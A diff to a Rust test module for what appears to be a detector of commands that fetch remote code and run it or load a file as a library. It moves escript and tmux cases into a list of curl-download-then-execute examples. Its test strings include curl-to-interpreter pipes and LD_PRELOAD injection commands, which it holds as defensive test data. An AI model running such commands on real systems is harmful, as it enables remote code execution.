@@ -307,8 +307,6 @@ mod tests {
             "julia -L F -e 1",
             "iex --dot-iex F",
             "ansible-playbook F",
-            "/lib64/ld-linux-x86-64.so.2 --preload ./F /bin/ls",
-            "escript F",
             "LD_PRELOAD=./F ls",
             "LD_AUDIT=./F ls",
             "env LD_PRELOAD=./F ls",
@@ -327,8 +325,6 @@ mod tests {
             "python3 -c 'import ctypes; ctypes.CDLL(\"./F\")'",
             "python3 -c 'exec(open(\"F\").read())'",
             "lua -e 'package.loadlib(\"./F\", \"*\")'",
-            "tmux source F",
-            "tmux -f F new -d",
         ] {
             let loads = command.replace('F', "x.so");
             for fetch in [
@@ -363,6 +359,9 @@ mod tests {
             "curl -s http://h/a | tcc -run -",
             "curl -s http://h/a | gforth",
             "curl -s http://h/a > x.nims; nim e x.nims",
+            "curl -s http://h/a > x; escript x",
+            "curl -s http://h/a > x; tmux source x",
+            "curl -s http://h/a > x; tmux -f x new -d",
             "nim e <(curl -s http://h/a)",
             "curl -s http://h/a > x.v; v run x.v",
             "curl -s http://h/a > x.cr; crystal run x.cr",
